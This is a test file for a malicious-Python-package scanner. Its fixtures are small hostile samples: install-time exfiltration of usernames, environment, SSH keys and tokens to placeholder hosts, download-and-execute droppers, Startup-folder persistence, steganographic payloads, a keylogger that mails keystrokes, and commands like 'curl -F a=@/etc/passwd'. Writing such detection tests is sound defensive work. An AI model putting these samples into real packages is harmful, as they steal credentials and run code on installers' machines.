import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzePython } from '../../../src/analysis/python/index.js';
import { classifyHost } from '../../../src/analysis/python/values.js';
import { DEFAULT_LIMITS } from '../../../src/core/limits.js';
import type { FileEntry, FileTree } from '../../../src/core/types.js';
import { scoreFindings } from '../../../src/scoring/score.js';

async function scan(files: Record<string, string>) {
  const entries: FileEntry[] = Object.entries(files).map(([path, text]) => {
    const data = new TextEncoder().encode(text);
    return { path, data, size: data.byteLength };
  });
  const tree: FileTree = { format: 'directory', files: entries, issues: [], totalBytes: 0 };
  const out = await analyzePython(tree, { ecosystem: 'pypi', artifact: 'x', limits: DEFAULT_LIMITS, deadline: performance.now() + 10_000 });
  return { out, score: scoreFindings(out.findings) };
}

test('hosts anyone can deploy to on a vendor domain are not vendor endpoints', () => {
  assert.equal(classifyHost('abc123.execute-api.us-east-1.amazonaws.com'), 'unknown');
  assert.equal(classifyHost('evil.s3.amazonaws.com'), 'unknown');
  assert.equal(classifyHost('x.azurewebsites.net'), 'unknown');
  assert.equal(classifyHost('sts.amazonaws.com'), 'vendor');
  assert.equal(classifyHost('storage.googleapis.com'), 'vendor');
});

test('reconnaissance command output sent at install is exfiltration, whichever branch assigned the data', async () => {
  const { out, score } = await scan({
    'pkg-1/setup.py': [
      'import os, platform',
      'from urllib import request, parse',
      'try:',
      "    data = {'user': os.popen('whoami').read(), 'host': os.popen('hostname').read()}",
      'except Exception:',
      "    data = {'error': 'n/a'}",
      "request.urlopen(request.Request('https://a1b2c3.execute-api.us-east-1.amazonaws.com/x', data=parse.urlencode(data).encode()))",
      "from setuptools import setup\nsetup(name='x')",
    ].join('\n'),
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  const f = out.findings.find((x) => x.ruleId === 'py/host-data-exfiltration');
  assert.ok(f !== undefined && /recon:user/.test(f.message), f?.message);
});

test('a download run from a function the import-time code calls is download-and-execute', async () => {
  const { score } = await scan({
    'pkg/__init__.py': [
      'import requests, subprocess',
      "r = requests.get('https://files.example.invalid/setup.exe')",
      "open('setup-helper.exe', 'wb').write(r.content)",
      'def go():',
      "    subprocess.call(['setup-helper.exe'])",
      'go()',
    ].join('\n'),
  });
  assert.equal(score.verdict, 'malicious', score.reason);
});

test('sends on a TLS-wrapped socket or a create_connection() socket are socket sends to the connected host', async () => {
  for (const open of [
    "ctx = ssl.create_default_context()\ns = ctx.wrap_socket(socket.socket(), server_hostname='c2.example.invalid')\ns.connect(('c2.example.invalid', 443))",
    "s = socket.create_connection(('c2.example.invalid', 443))",
  ]) {
    const { out, score } = await scan({
      'pkg-1/setup.py': `import socket, ssl, getpass\n${open}\ns.send(getpass.getuser().encode())\nfrom setuptools import setup\nsetup(name='x')\n`,
    });
    assert.equal(score.verdict, 'malicious', `${open}: ${score.reason}`);
    assert.ok(out.findings.some((f) => f.ruleId === 'py/host-data-exfiltration' && f.message.includes('c2.example.invalid')));
  }
});

test('a function started in a thread at import runs at import; downloaded code saved as a module is flagged', async () => {
  const { out, score } = await scan({
    'pkg/__init__.py': [
      'import requests, threading, os',
      'def init():',
      "    code = requests.get('https://pastebin.com/raw/abc').text",
      "    with open(os.path.join(os.path.expanduser('~'), 'site-packages', 'helper', '__init__.py'), 'w') as f:",
      '        f.write(code)',
      'threading.Thread(target=init).start()',
    ].join('\n'),
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.ok(out.findings.some((f) => f.ruleId === 'py/download-execute' && f.trigger === 'import'));
  // The same function, never started, only runs when called.
  const { score: quiet } = await scan({
    'pkg/__init__.py': "import requests\ndef init():\n    code = requests.get('https://pastebin.com/raw/abc').text\n    open('helper.py', 'w').write(code)\n",
  });
  assert.notEqual(quiet.verdict, 'malicious');
});

test('a plain client that connects to an IP-echo service and sends a request is not exfiltration', async () => {
  const { score } = await scan({
    'pkg/client.py': [
      'import socket, ssl',
      'ctx = ssl.create_default_context()',
      "sock = ctx.wrap_socket(socket.create_connection(('httpbin.org', 443)), server_hostname='httpbin.org')",
      "sock.sendall(b'GET /get HTTP/1.1\\r\\nHost: httpbin.org\\r\\n\\r\\n')",
    ].join('\n'),
  });
  assert.equal(score.verdict, 'clean', score.reason);
});

test('a windowless Python started at import is a background payload; a windowless tool run when called is not', async () => {
  const { score } = await scan({
    'pkg/__init__.py': "import subprocess, sys, os\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'svc.py')], creationflags=subprocess.DETACHED_PROCESS)\n",
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  const { score: tool } = await scan({
    'pkg/vcs.py': "import subprocess\ndef rev():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'], creationflags=subprocess.CREATE_NO_WINDOW)\n",
  });
  assert.equal(tool.verdict, 'clean', tool.reason);
});

test('copying or cloning into the Startup folder at install is persistence; creating a config folder is not', async () => {
  const { score } = await scan({
    'pkg-1/setup.py':
      "import os, shutil\nstartup = rf'C:\\Users\\{os.getlogin()}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup'\nshutil.copy('helper.pyw', startup)\nfrom setuptools import setup\nsetup(name='x')\n",
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  const { score: cfg } = await scan({
    'pkg-1/setup.py': "import os\nos.makedirs(os.path.expanduser('~/.config/mytool'), exist_ok=True)\nfrom setuptools import setup\nsetup(name='x')\n",
  });
  assert.equal(cfg.verdict, 'clean', cfg.reason);
});

test('game launcher account files are credential sources', async () => {
  const { score } = await scan({
    'pkg/__init__.py':
      "import os, requests\np = os.path.join(os.path.expanduser('~'), 'AppData', 'Roaming', '.minecraft', 'launcher_accounts.json')\nrequests.post('https://collector.example.invalid/u', data=open(p).read())\n",
  });
  assert.equal(score.verdict, 'malicious', score.reason);
});

test('install-time sabotage, callbacks to interaction services and staged binaries are malicious; ordinary build commands are not', async () => {
  const setup = (body: string): Record<string, string> => ({ 'pkg-1/setup.py': `import os\n${body}\nfrom setuptools import setup\nsetup(name='x')\n` });
  for (const body of [
    "os.system('poweroff')",
    "os.system('curl https://abc123.oastify.com/x')",
    "os.system('curl -F a=@/etc/passwd 192.0.2.7:8080')",
    "os.system('cd /tmp && chmod +x node && ./node')",
    "os.system('\"/tmp/.cache/updater\" &')",
  ]) {
    const { score } = await scan(setup(body));
    assert.equal(score.verdict, 'malicious', `${body}: ${score.reason}`);
  }
  for (const body of ["os.system('make -j4')", "os.system('curl -L https://github.com/org/lib/archive/v1.tar.gz -o lib.tgz')"]) {
    const { score } = await scan(setup(body));
    assert.notEqual(score.verdict, 'malicious', `${body}: ${score.reason}`);
  }
  // A library function that powers off when called (an admin tool) is not install-time sabotage.
  const { score: admin } = await scan({ 'pkg/admin.py': 'import os\ndef stop():\n    os.system("shutdown -h now")\n' });
  assert.notEqual(admin.verdict, 'malicious', admin.reason);
});

test('a Host header that names another host (domain fronting) is the destination, and hidden', async () => {
  const { out, score } = await scan({
    'pkg/__init__.py': [
      'from urllib import request',
      "tok = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
      "r = request.Request('https://pypi.org/x?d=' + tok, headers={'Host': 'collector.cdn.example.invalid'})",
      'request.urlopen(r)',
    ].join('\n'),
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.ok(out.findings.some((f) => f.message.includes('collector.cdn.example.invalid')));
});

test('python -c with code decoded from a computed value, and a download and run split across top-level helpers, are caught', async () => {
  const { score } = await scan({
    'p-1/setup.py':
      "import base64, subprocess, os\nmsg = os.environ.get('X', '')\nsubprocess.Popen(['python', '-c', base64.b64decode(msg).decode('utf-8')])\nfrom setuptools import setup\nsetup(name='p')\n",
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  const { score: split } = await scan({
    'pkg/__init__.py': [
      'import os, sys',
      'from urllib import request',
      'def fetch(path):',
      "    open(path, 'w').write(request.urlopen('https://files.example.invalid/x.py').read().decode())",
      'def run(path):',
      "    os.system(f'start {sys.executable} {path}')",
      "p = os.path.join(os.getenv('TEMP'), 'x.py')",
      'fetch(p)',
      'run(p)',
    ].join('\n'),
  });
  assert.equal(split.verdict, 'malicious', split.reason);
});

test('a helper that reads the file at the path it is given returns that file (credential files through helpers)', async () => {
  const { score } = await scan({
    'pkg/__init__.py': [
      'import os, requests',
      'def get(path):',
      "    with open(path, 'rb') as f:",
      '        return f.read()',
      "data = get(os.path.join(os.path.expanduser('~'), 'AppData', 'Roaming', '.minecraft', 'launcher_accounts.json'))",
      "requests.post('https://collector.example.invalid/u', files={'f': data})",
    ].join('\n'),
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  const { score: cfg } = await scan({
    'pkg/__init__.py': "import requests\ndef get(path):\n    return open(path).read()\nrequests.post('https://api.example.org/v1', data=get('settings.toml'))\n",
  });
  assert.notEqual(cfg.verdict, 'malicious', cfg.reason);
});

test('a DNS lookup of a hidden host at install and a domain-fronted request at import phone home', async () => {
  const { out, score } = await scan({
    'p-1/setup.py': "import socket, base64\nsocket.gethostbyname(base64.b64decode('Y2IuZXhhbXBsZS5pbnZhbGlk').decode())\nfrom setuptools import setup\nsetup(name='p')\n",
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.ok(out.findings.some((f) => f.ruleId === 'py/install-beacon' && f.message.includes('cb.example.invalid')));
  const { out: fronted } = await scan({
    'pkg/__init__.py': "from urllib import request\nrequest.urlopen(request.Request('https://pypi.org/x', headers={'Host': 'c2.cdn.example.invalid'}))\n",
  });
  assert.ok(fronted.findings.some((f) => f.ruleId === 'py/install-beacon' && /domain fronting/.test(f.message)));
  // A resolver check of a plain, visible name at install is not a callback.
  const { score: plain } = await scan({ 'p-1/setup.py': "import socket\nsocket.gethostbyname('files.example.org')\nfrom setuptools import setup\nsetup(name='p')\n" });
  assert.notEqual(plain.verdict, 'malicious', plain.reason);
});

test('host data passed by keyword to a local request helper is exfiltration at install', async () => {
  const { out, score } = await scan({
    'p-1/setup.py': [
      'import getpass, platform, json',
      'def request(url, method="GET", data=None, headers=None):',
      '    import urllib.request as r',
      '    return r.urlopen(r.Request(url=url, data=data, headers=headers), timeout=10).read()',
      'def detect():',
      '    data = {"title": "%s@%s" % (getpass.getuser(), platform.node())}',
      '    request(url="http://probe.example.invalid/hook", method="POST", data=json.dumps(data).encode())',
      'detect()',
      "from setuptools import setup\nsetup(name='p')",
    ].join('\n'),
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.ok(out.findings.some((f) => f.ruleId === 'py/host-data-exfiltration'));
  // The same helper given only a constant by keyword sends nothing of the host.
  const { score: plain } = await scan({
    'pkg/__init__.py': 'def request(url, data=None):\n    import urllib.request as r\n    return r.urlopen(url, data)\ndef ping():\n    return request(url="https://api.example.invalid/v1", data=b"{}")\n',
  });
  assert.notEqual(plain.verdict, 'malicious', plain.reason);
});

test('host names with data in underscore labels keep their fixed suffix for classification', async () => {
  const { score } = await scan({
    'p-1/setup.py': [
      'import socket, getpass',
      'from setuptools.command.install import install',
      'class I(install):',
      '    def run(self):',
      '        value = getpass.getuser().encode().hex()',
      "        socket.getaddrinfo(f'v2_f.{value}.v2_e.abcdef.oastify.com', 80)",
      "from setuptools import setup\nsetup(name='p', cmdclass={'install': I})",
    ].join('\n'),
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.equal(classifyHost('iplogger.org'), 'oob');
});

test('an install-time request whose answer is never read is a beacon; a download that is used is not', async () => {
  const { out, score } = await scan({
    'p-1/setup.py': [
      'from urllib.request import urlopen',
      'def telemetry(path):',
      '    urlopen("https://stats.example.invalid/log/" + path)',
      'telemetry("init")',
      "from setuptools import setup\nsetup(name='p')",
    ].join('\n'),
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.ok(out.findings.some((f) => f.ruleId === 'py/install-beacon' && /ignores the answer/.test(f.message)));
  const { score: used } = await scan({
    'p-1/setup.py': [
      'from urllib.request import urlopen',
      'data = urlopen("https://files.example.invalid/table.json").read()',
      "open('table.json', 'wb').write(data)",
      "from setuptools import setup\nsetup(name='p')",
    ].join('\n'),
  });
  assert.notEqual(used.verdict, 'malicious', used.reason);
  // Vendor endpoints are not beacons.
  const { score: vendor } = await scan({ 'p-1/setup.py': "from urllib.request import urlopen\nurlopen('https://pypi.org/simple/')\nfrom setuptools import setup\nsetup(name='p')\n" });
  assert.notEqual(vendor.verdict, 'malicious', vendor.reason);
});

test('code downloaded to a file and executed from that file is download-and-execute', async () => {
  const { out, score } = await scan({
    'pkg/__init__.py': [
      'import requests, tempfile',
      'def run():',
      "    text = requests.get('https://stage.example.invalid/raw').text",
      "    with tempfile.NamedTemporaryFile(mode='w', delete=False) as f:",
      '        f.write(text)',
      '        path = f.name',
      '    exec(open(path).read(), globals())',
      'run()',
    ].join('\n'),
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.ok(out.findings.some((f) => f.ruleId === 'py/download-execute' && f.message.includes('stage.example.invalid')));
  // Reading back a different, fixed file of the package is not the download.
  const { score: local } = await scan({
    'pkg/__init__.py': [
      'import requests',
      'def refresh():',
      "    open('cache.json', 'w').write(requests.get('https://api.example.invalid/v1').text)",
      "    exec(open('defaults.py').read())",
      'refresh()',
    ].join('\n'),
  });
  assert.notEqual(local.verdict, 'malicious', local.reason);
});

test('a Windows program fetched from a fixed non-vendor address and started is a dropper even when only called', async () => {
  const dropper = [
    'import os, requests',
    'def close():',
    "    r = requests.get('https://raw.githubusercontent.com/someone/tools/main/server.exe')",
    "    with open('C://Temp//server.exe', 'wb') as f:",
    '        f.write(r.content)',
    "    os.startfile('C://Temp//server.exe')",
  ].join('\n');
  const { score } = await scan({ 'pkg/main.py': dropper });
  assert.equal(score.verdict, 'malicious', score.reason);
  // The vendor's own redistributable, and a script from a repository run by its interpreter, stay below.
  const vendor = dropper.replace('https://raw.githubusercontent.com/someone/tools/main/server.exe', 'https://download.microsoft.com/download/vc_redist.x64.exe');
  const { score: fromVendor } = await scan({ 'pkg/main.py': vendor });
  assert.notEqual(fromVendor.verdict, 'malicious', fromVendor.reason);
  const script = [
    'import subprocess, tempfile, urllib.request',
    'def flamegraph(data):',
    '    f = tempfile.NamedTemporaryFile(suffix=".pl", delete=False)',
    "    urllib.request.urlretrieve('https://raw.githubusercontent.com/brendangregg/FlameGraph/master/flamegraph.pl', f.name)",
    "    return subprocess.run(['perl', f.name], input=data, capture_output=True)",
  ].join('\n');
  const { score: perl } = await scan({ 'pkg/viz.py': script });
  assert.notEqual(perl.verdict, 'malicious', perl.reason);
});

test('code written to a file at import that downloads and executes is analysed, even with exec given a keyword', async () => {
  const { out, score } = await scan({
    'pkg/__init__.py': [
      'from tempfile import NamedTemporaryFile as _f',
      'from os import system as _s',
      '_t = _f(delete=False)',
      `_t.write(b"""import requests;exec(t = requests.get('http://203.0.113.9/grab/1').text)""")`,
      '_t.close()',
      "_s(f'start pythonw.exe {_t.name}')",
    ].join('\n'),
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.ok(out.findings.some((f) => f.ruleId === 'py/download-execute' && f.message.includes('203.0.113.9')));
});

test('a download written into an autostart folder is critical even in called code', async () => {
  const code = [
    'import os, requests',
    'def install():',
    "    path = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'startup.pyw')",
    "    with open(path, 'wb') as f:",
    "        f.write(requests.get('https://cdn.discordapp.com/attachments/1/2/main.py').content)",
  ].join('\n');
  const { score } = await scan({ 'pkg/tool.py': code });
  assert.equal(score.verdict, 'malicious', score.reason);
  // Whatever URL the caller passes: still a download installed to run at every login.
  const { score: anyUrl } = await scan({ 'pkg/tool.py': code.replace("requests.get('https://cdn.discordapp.com/attachments/1/2/main.py')", 'requests.get(url)').replace('def install():', 'def install(url):') });
  assert.equal(anyUrl.verdict, 'malicious', anyUrl.reason);
  // The same shortcut written from the package's own text, when called, is not decisive on its own.
  const { score: own } = await scan({ 'pkg/tool.py': code.replace("requests.get('https://cdn.discordapp.com/attachments/1/2/main.py').content", "b'import mytool; mytool.tray()'") });
  assert.notEqual(own.verdict, 'malicious', own.reason);
});

test('a dropper split across static methods: the address fetched from a paste site reaches a command', async () => {
  const code = [
    'import os, subprocess, threading, urllib.request',
    "BASE = 'https://pastebin.com/raw/abc'",
    'class Dropper:',
    '    @staticmethod',
    '    def resolve() -> str:',
    "        return urllib.request.urlopen(BASE).read().decode().split('\\n')[0]",
    '    @staticmethod',
    '    def download(url: str) -> str:',
    "        path = os.path.join(os.getenv('TEMP'), 'Bin.exe')",
    "        subprocess.call(f'curl -o {path} {url}', shell=False)",
    '        return path',
    '    @staticmethod',
    '    def run(path: str):',
    "        os.system(f'start {path}')",
    'def _go():',
    '    Dropper.run(Dropper.download(Dropper.resolve()))',
    'def init():',
    '    threading.Thread(target=_go).start()',
  ].join('\n');
  const { out, score } = await scan({ 'pkg/core.py': code });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.ok(out.findings.some((f) => f.ruleId === 'py/download-execute' && /downloaded from pastebin\.com to Dropper\.download\(\)/.test(f.message)));
  // A version number read from the package index and handed to pip is not decisive in called code.
  const { score: pip } = await scan({
    'pkg/upgrade.py': [
      'import subprocess, requests',
      'class Upgrader:',
      '    @staticmethod',
      '    def latest():',
      "        return requests.get('https://pypi.org/pypi/mytool/json').json()['info']['version']",
      '    @staticmethod',
      '    def install(version):',
      "        subprocess.check_call(['pip', 'install', f'mytool=={version}'])",
      'def upgrade():',
      '    Upgrader.install(Upgrader.latest())',
    ].join('\n'),
  });
  assert.notEqual(pip.verdict, 'malicious', pip.reason);
});

test('a file downloaded from a bare IP and made executable is a dropper; the same from a vendor is not decisive', async () => {
  const code = [
    'import os, stat, urllib.request',
    'def rn():',
    "    data = urllib.request.urlopen('http://198.51.100.7/out').read()",
    "    with open('.drv', 'wb') as d:",
    '        d.write(data)',
    "    os.chmod('.drv', os.stat('.drv').st_mode | stat.S_IEXEC)",
  ].join('\n');
  const { out, score } = await scan({ 'pkg/pr.py': code });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.ok(out.findings.some((f) => /makes it executable/.test(f.message)));
  const { score: vendor } = await scan({ 'pkg/pr.py': code.replace('http://198.51.100.7/out', 'https://storage.googleapis.com/tool/linux/tool') });
  assert.notEqual(vendor.verdict, 'malicious', vendor.reason);
});

test('a shell command at install that splices host identity into a request is exfiltration; a platform-named download is not', async () => {
  const { out, score } = await scan({ 'p-1/setup.py': "import os\nos.system('curl \"https://collect.example.invalid/X/$(env | base64 -w 0)\"')\nfrom setuptools import setup\nsetup(name='p')\n" });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.ok(out.findings.some((f) => f.ruleId === 'py/host-data-exfiltration' && f.message.includes('env | base64')));
  const { score: platform } = await scan({
    'p-1/setup.py': "import os\nos.system('curl -L -o tool.tgz https://downloads.example.invalid/tool-$(uname -s)-$(uname -m).tgz')\nfrom setuptools import setup\nsetup(name='p')\n",
  });
  assert.notEqual(platform.verdict, 'malicious', platform.reason);
});

test('code hidden in a downloaded image and executed (steganography) is download-and-execute', async () => {
  const { out, score } = await scan({
    'p-1/setup.py': [
      'import os, requests',
      'from judyb import lsb',
      "p = f'{os.getenv(\"TEMP\")}\\\\img.png'",
      "r = requests.get('https://images.example.invalid/a.png')",
      "with open(p, 'wb') as f:",
      '    f.write(r.content)',
      'exec(lsb.reveal(p))',
      "from setuptools import setup\nsetup(name='p')",
    ].join('\n'),
  });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.ok(out.findings.some((f) => f.ruleId === 'py/download-execute' && f.message.includes('images.example.invalid')));
});

test('an upload to a hidden address at import is critical; a plain request to it, or an upload of no files when called, is not decisive', async () => {
  const upload = "import base64, requests\nrequests.post(base64.b64decode('aHR0cHM6Ly9kcm9wLmV4YW1wbGUuaW52YWxpZC91cA==').decode(), json={'f': 'notes'})\n";
  const { out, score } = await scan({ 'pkg/__init__.py': upload });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.ok(out.findings.some((f) => f.ruleId === 'py/obfuscated-destination' && /Uploads data to a hidden destination drop\.example\.invalid/.test(f.message)));
  const { score: get } = await scan({ 'pkg/__init__.py': upload.replace(/requests\.post\((.*)\), json=.*\)\n/, 'requests.get($1))\n') });
  assert.notEqual(get.verdict, 'malicious', get.reason);
  const { score: called } = await scan({ 'pkg/up.py': upload.replace('requests.post', 'def send():\n    requests.post') });
  assert.notEqual(called.verdict, 'malicious', called.reason);
});

test('an SSH key sent to another machine on the private network at install is exfiltration; to loopback it is not', async () => {
  const code = [
    'import os, base64, subprocess',
    "key = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()",
    "subprocess.check_output(['curl', f'http://192.168.77.5/?k={base64.b64encode(key.encode()).decode()}'])",
    "from setuptools import setup\nsetup(name='p')",
  ].join('\n');
  const { score } = await scan({ 'p-1/setup.py': code });
  assert.equal(score.verdict, 'malicious', score.reason);
  const { score: loopback } = await scan({ 'p-1/setup.py': code.replace('192.168.77.5', '127.0.0.1:8000') });
  assert.notEqual(loopback.verdict, 'malicious', loopback.reason);
});

test('a repository cloned at install and a script of it run is download-and-execute; a clone built with cmake is not', async () => {
  const code = [
    'import os, subprocess, git',
    'def fetch():',
    "    path = os.path.join('C:', 'Users', 'repo')",
    "    git.Repo.clone_from('https://github.com/someone/updater.git', path)",
    '    os.chdir(path)',
    "    subprocess.run(['python', 'bypass.py'])",
    'fetch()',
    "from setuptools import setup\nsetup(name='p')",
  ].join('\n');
  const { out, score } = await scan({ 'p-1/setup.py': code });
  assert.equal(score.verdict, 'malicious', score.reason);
  assert.ok(out.findings.some((f) => /Clones a repository from github\.com/.test(f.message)));
  const { score: build } = await scan({ 'p-1/setup.py': code.replace("['python', 'bypass.py']", "['cmake', '--build', '.']") });
  assert.notEqual(build.verdict, 'malicious', build.reason);
});

test('keystrokes mailed to a fixed mailbox are spyware wherever they run; a hotkey tool that checks for updates is not', async () => {
  const keylogger = [
    'import smtplib',
    'from pynput import keyboard',
    'keys = []',
    'def on_press(k):',
    '    keys.append(str(k))',
    'def collect():',
    '    with keyboard.Listener(on_press=on_press) as l:',
    '        l.join()',
    'def send():',
    "    with smtplib.SMTP_SSL('smtp.mail.example.invalid', 465) as s:",
    "        s.login('me@example.invalid', 'pw')",
    "        s.sendmail('me@example.invalid', 'me@example.invalid', ''.join(keys))",
  ].join('\n');
  const { score } = await scan({ 'pkg/secretary.py': keylogger });
  assert.equal(score.verdict, 'malicious', score.reason);
  const hotkeys = [
    'import requests',
    'from pynput import keyboard',
    'def on_press(k):',
    "    if str(k) == 'Key.f9':",
    "        print(requests.get('https://api.github.com/repos/me/tool/releases/latest').json()['tag_name'])",
    'def run():',
    '    keyboard.Listener(on_press=on_press).start()',
  ].join('\n');
  const { score: tool } = await scan({ 'pkg/hotkeys.py': hotkeys });
  assert.notEqual(tool.verdict, 'malicious', tool.reason);
});
